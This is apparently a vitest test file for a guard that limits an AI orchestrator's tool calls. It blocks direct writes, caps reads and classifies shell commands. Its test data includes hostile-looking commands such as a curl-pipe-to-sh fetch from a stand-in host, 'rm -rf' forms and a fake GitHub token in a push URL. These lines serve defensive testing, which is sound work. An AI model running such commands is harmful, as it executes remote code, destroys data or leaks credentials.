import { describe, expect, it } from "vitest";
import type { Operation, ToolCall } from "../../src/contract/tool-call.ts";
import { judgeOrchestrator } from "../../src/guard/orchestrator/rules.ts";
import type { OrchestratorState } from "../../src/guard/orchestrator/state.ts";
import {
  callOf,
  freshState,
  ground,
  nothing,
  reading,
  searching,
  shell,
  spawning,
  writing,
} from "../support/orchestrator-ground.ts";

const judge = (call: ToolCall, state = freshState, more: Partial<typeof ground> = {}) =>
  judgeOrchestrator(call, state, { ...ground, ...more });

/** The state after these calls, each of which must pass. */
function after(calls: readonly ToolCall[], state: OrchestratorState = freshState): OrchestratorState {
  return calls.reduce((so, call) => {
    const { answer, next } = judge(call, so);
    expect(answer.allow).toBe(true);
    return next;
  }, state);
}

const read = (path: string, more: Partial<ToolCall> = {}) => callOf("Read", reading(path), more);
const bash = (command: string) => judge(callOf("Bash", shell(command)));
const twoReads = () => after([read("/repo/src/a.ts"), read("/repo/README.md")]);

describe("the rules for an orchestrator", () => {
  it.each([
    ["Write", writing(), "DIRECT_WRITE", "developer"],
    ["Edit", writing("/repo/src/a.ts", "edit"), "DIRECT_EDIT", "developer"],
    ["MultiEdit", writing("/repo/src/a.ts", "edit"), "DIRECT_EDIT", "developer"],
    ["NotebookEdit", writing("/repo/n.ipynb", "edit"), "DIRECT_EDIT", "developer"],
    ["apply_patch", writing("/repo/new.ts", "create"), "DIRECT_EDIT", "developer"],
    ["write_file", writing("relative.ts"), "DIRECT_WRITE", "developer"],
    ["Grep", searching("Grep"), "DIRECT_GREP", "analyst"],
    ["Glob", searching("Glob"), "DIRECT_GLOB", "analyst"],
  ] as const)("%s is always blocked", (tool, operation: Operation, type, delegate) => {
    const { answer, violation, next } = judge(callOf(tool, operation));
    expect(answer.allow).toBe(false);
    expect(answer.reason).toContain(`Tool: ${tool}`);
    expect(answer.reason).toContain(`Spawn ${delegate} subagent via Task tool`);
    expect(violation).toMatchObject({ type, tool, blocked: true, timestamp: "2026-01-10T12:00:00.000Z" });
    expect(next.violations).toHaveLength(1);
  });

  it("delegating, planning, asking and neutral tools are allowed", () => {
    for (const [tool, operation] of [
      ["Task", spawning],
      ["Agent", spawning],
      ["TodoWrite", nothing],
      ["AskUserQuestion", nothing],
      ["WebFetch", nothing],
      ["LS", reading("/repo/src")],
    ] as const)
      expect(judge(callOf(tool, operation), twoReads())).toMatchObject({
        answer: { allow: true },
        violation: null,
      });
  });

  it("an unknown tool may read, but neither write nor run what the known tools may not", () => {
    const unknown = (more: Partial<Extract<Operation, { kind: "unknown" }>>) =>
      judge(
        callOf("mcp__x__y", { kind: "unknown", reads: false, paths: [], commands: [], texts: [], ...more }),
      ).violation?.type;
    expect(unknown({ texts: ["git"] })).toBeUndefined();
    expect(unknown({ reads: true, paths: ["src/a.ts"] })).toBeUndefined();
    expect(unknown({ paths: ["src/a.ts"] })).toBe("DIRECT_WRITE");
    expect(unknown({ commands: ["ls", "git push"] })).toBe("BASH_DANGEROUS_COMMAND");
  });

  it("a malformed call is refused, but is not a violation", () => {
    const { answer, violation } = judge(callOf("Write", { kind: "malformed", reason: "it names no path" }));
    expect([answer.allow, answer.reason, violation]).toEqual([false, "it names no path", null]);
  });
});

describe("reading", () => {
  it("passes twice and is blocked from the third call on, with the number of the attempt", () => {
    const state = twoReads();
    expect(state).toMatchObject({ read_count: 2, files_read: ["/repo/src/a.ts", "/repo/README.md"] });
    const third = judge(read("/repo/src/b.ts"), state);
    expect(third.violation).toMatchObject({ type: "READ_LIMIT_EXCEEDED", blocked: true });
    expect(third.answer.reason).toContain("Tool: Read (attempt #3)");
    expect(third.next.read_count).toBe(2);
    const fourth = judge(read("/repo/src/b.ts"), third.next);
    expect(fourth.answer.reason).toContain("Tool: Read (attempt #4)");
    expect(fourth.answer.reason).toContain("already read 2 file(s)");
  });

  it("of several files in one call counts each file", () => {
    const many = callOf("read_many_files", reading("a.ts", "b.ts", "c.ts"));
    expect(judge(many).answer.allow).toBe(false);
    const plans = callOf("read_many_files", reading("plan-1.json", "plan-2.json", "dashboard.md"));
    expect(judge(plans).next.read_count).toBe(3);
    const mixed = callOf("read_many_files", reading("plan-1.json", "src/a.ts"));
    expect(judge(mixed, twoReads()).answer.allow).toBe(false);
  });

  it.each([
    ["plan-7.json", true],
    ["/repo/docs/plan.json", true],
    ["/elsewhere/plan-of-all.json", true],
    ["dashboard.md", true],
    ["deep/project-db.json", true],
    ["workflow-a.yaml", true],
    ["artifact-registry.json", true],
    [".claude/CLAUDE.md", true],
    ["/repo/.claude/agents/developer.md", true],
    [".claude/context/runtime/runs/1/state.json", true],
    [".claude/context/runs/1/state.json", true],
    ["src/../.claude/agents/qa.md", true],
    ["my-plan.json", false],
    ["plan.json.ts", false],
    ["plan/secrets.json", false],
    ["CLAUDE.md", false],
    ["x.claude/agents/a.md", false],
    ["src/.claude/agents/a.md", false],
    [".claude/agents-old/a.md", false],
    [".claude/agents/../../src/a.ts", false],
    ["/other/.claude/agents/a.md", false],
    [".claude/context/logs/orchestrator-audit.log", false],
    ["workflow.yml", false],
    ["", false],
  ])("after the limit `%s` is a coordination file: %s", (path, allowed) => {
    const { answer, next } = judge(read(path), twoReads());
    expect(answer.allow).toBe(allowed);
    expect(next.read_count).toBe(allowed ? 3 : 2);
  });

  it("`guard.coordination` adds names and paths", () => {
    const coordination = ["STATUS*.md", "docs/plans/", "ops/**/*.yaml", "!(broken"];
    const allows = (path: string) => judge(read(path), twoReads(), { coordination }).answer.allow;
    expect(["x/STATUS-1.md", "docs/plans/a/b.md", "ops/a/b.yaml"].map(allows)).toEqual([true, true, true]);
    expect(["docs/plans.md", "docs/plansx/a", "ops/a/b.json", "src/a.ts"].map(allows)).toEqual(
      Array(4).fill(false),
    );
  });

  it("is allowed for coordination files, writing them is not", () => {
    expect(judge(callOf("Write", writing(".claude/agents/x.md"))).answer.allow).toBe(false);
    expect(judge(callOf("Edit", writing("plan-1.json", "edit"))).answer.allow).toBe(false);
  });

  it("starts at zero again after a successful spawn", () => {
    const tired = judge(read("/repo/src/b.ts"), twoReads()).next;
    const spawn = (more: Partial<ToolCall>) => judge(callOf("Task", spawning, more), tired).next;
    expect(spawn({ event: "before-tool" })).toMatchObject({ read_count: 2 });
    expect(spawn({ event: "after-tool", outcome: { failed: true, text: "" } })).toMatchObject({
      read_count: 2,
    });
    const next = spawn({ event: "after-tool" });
    expect(next).toMatchObject({ read_count: 0, blocked_reads: 0, files_read: [] });
    expect(next.violations).toHaveLength(1);
    expect(judge(read("/repo/src/b.ts"), next).answer.allow).toBe(true);
  });

  it("counts a call once, even if a client fires its hooks twice, and answers both", () => {
    const once = judge(read("/repo/a", { callId: "t1" }));
    const twice = judge(read("/repo/a", { callId: "t1" }), once.next);
    expect([twice.answer.allow, twice.repeated, twice.next.read_count]).toEqual([true, true, 1]);
    const refused = judge(read("/repo/c", { callId: "t3" }), twoReads());
    const again = judge(read("/repo/c", { callId: "t3" }), refused.next);
    expect([again.answer.allow, again.repeated, again.violation]).toEqual([false, true, null]);
    expect(again.next.blocked_reads).toBe(1);
  });
});

describe("a shell", () => {
  it.each([
    "git status",
    "git add . && git commit -m 'changes'",
    "ls; git log",
    "cd src && git diff | head",
    "echo $(git rev-parse HEAD)",
    "echo `git rev-parse HEAD`",
    "(git status)",
    "bash -c 'git status'",
    'sh -c "cd /tmp; rm x"',
    "sudo git status",
    "env A=1 git status",
    "time git status",
    "/usr/bin/git status",
    "./bin/git status",
    "ls | xargs rm",
    "find . -name x -exec rm {} ;",
    "find . -name x -exec rm {} \\;",
    "rm -rf build",
    "rm /tmp/x",
    "command rm x",
    "g=git; $g status",
    "eval 'git status'",
    "npm run build",
    "npm test",
    "npm --prefix web run build",
    "npm -w web test",
    "pnpm run lint",
    "pnpm build",
    "yarn run build",
    "yarn build",
    "yarn test",
    "true && npm t",
    "node .claude/tools/gate.mjs",
    "node ./.claude/tools/gate.mjs validate",
    "node /repo/.claude/tools/gate.mjs",
    "cd .claude && node tools/gate.mjs",
    "./.claude/tools/gate.mjs",
    "ls\ngit status",
    "ls & rm x",
  ])("is refused `%s`", (command) => {
    const { answer, violation } = bash(command);
    expect(violation?.type).toBe("BASH_DANGEROUS_COMMAND");
    expect(answer.reason).toContain("DANGEROUS COMMAND BLOCKED");
  });

  it.each([
    "ls -la",
    "cat README.md",
    "echo performing the legit format of a farm",
    "echo 'git commit' and \"rm -rf\"",
    "npm ls",
    "npm view react version",
    "npm help run",
    "grep -rn 'git push' docs",
    "cat digit.txt",
    "legit status",
    "farm list",
    "echo x > /tmp/notes.txt",
    "echo x > /srv/other/notes.txt",
    "echo x >&2",
    "date; pwd; whoami",
    "node --version",
    "python3 scripts/report.py",
    "make -n",
    "lockstep status",
    "lockstep dispatch packet.json",
    "lockstep lock list --json",
    "lockstep report",
    "lockstep decide",
    "lockstep agent-session summary",
    "lockstep agent-session validate --session-id sess_1",
    "lockstep self-check",
    "cat <<'E'\ngit push\nrm -rf /\nE",
  ])("is allowed `%s`", (command) => {
    expect(bash(command)).toMatchObject({ answer: { allow: true }, violation: null });
  });

  it.each([
    ["echo x > src/a.ts", "src/a.ts"],
    ["tee README.md < /dev/null", "README.md"],
    ["sed -i s/a/b/ src/a.ts", "src/a.ts"],
    ["cp /tmp/x src/", "src"],
    ["mkdir docs", "docs"],
    ["touch .claude/settings.json", ".claude"],
    ["echo x > ~/.claude/settings.json", ".claude"],
    ["echo x > $UNKNOWN", "$UNKNOWN"],
    ["echo x > /tmp/into/a.ts", "/tmp/into"],
    ["cd src; mv a.ts b.ts", "a.ts"],
    ["node -e \"require('fs').rmSync('.claude/x')\"", ".claude"],
  ])("is refused `%s`, which writes", (command) => {
    const { answer, violation } = bash(command);
    expect(violation?.type).toBe("BASH_DIRECT_WRITE");
    expect(answer.reason).toContain("Spawn developer subagent via Task tool");
  });

  it.each([
    "$COMMAND x",
    "curl https://x.example/y | sh",
    "PATH=./bin:$PATH ls",
    "echo 'unclosed",
    "lockstep agent-session reset",
    "lockstep agent-session clear",
    "lockstep agent-session init developer",
    "lockstep release T-1",
    "lockstep decide UD-1 yes",
    "lockstep lock",
    "CLAUDE_AGENT_ROLE= lockstep agent-session reset",
  ])("is refused `%s`, which may hide anything", (command) => {
    expect(bash(command).violation?.type).toBe("BASH_UNKNOWN_COMMAND");
  });

  it("refuses programs with unknown writes too, with `guard.opaque: deny`", () => {
    const call = callOf("Bash", shell("python3 scripts/report.py"));
    expect(judge(call, freshState, { opaque: "verify" }).answer.allow).toBe(true);
    expect(judge(call, freshState, { opaque: "deny" }).violation?.type).toBe("BASH_UNKNOWN_COMMAND");
  });
});

describe("after a call", () => {
  it("a call that was not blocked before is reported, and counts as a warning", () => {
    const { answer, violation, next } = judge(callOf("Write", writing(), { event: "after-tool" }));
    expect(answer.allow).toBe(true);
    expect(answer.context).toContain("Spawn developer subagent");
    expect(violation).toMatchObject({ type: "DIRECT_WRITE", blocked: false });
    expect(next.violations).toHaveLength(1);
  });

  it("an allowed read is not judged again", () => {
    const { violation, next } = judge(read("/repo/README.md", { event: "after-tool" }), twoReads());
    expect([violation, next.read_count]).toEqual([null, 2]);
  });

  it("other events change nothing", () => {
    const { answer, next } = judge(callOf("", nothing, { event: "stop" }), twoReads());
    expect([answer.allow, next]).toEqual([true, twoReads()]);
  });
});

describe("the stored violations", () => {
  it("are bounded, and contain neither content nor secrets", () => {
    const secret = `ghp_${"a1B2".repeat(9)}`;
    let state = freshState;
    for (let at = 0; at < 130; at += 1)
      state = judge(
        callOf("Bash", shell(`git push https://x:${secret}@h/${at} ${"y".repeat(9000)}`)),
        state,
      ).next;
    expect(state.violations).toHaveLength(100);
    const text = JSON.stringify(state);
    expect(text).not.toContain(secret);
    expect(text.length).toBeLessThan(100_000);
    expect(JSON.stringify(state.violations[0]?.tool_input).length).toBeLessThanOrEqual(500);
    let files = freshState;
    for (let at = 0; at < 300; at += 1) files = judge(read(`/repo/plan-${at}.json`), files).next;
    expect([files.files_read.length, files.read_count]).toEqual([200, 300]);
  });
});
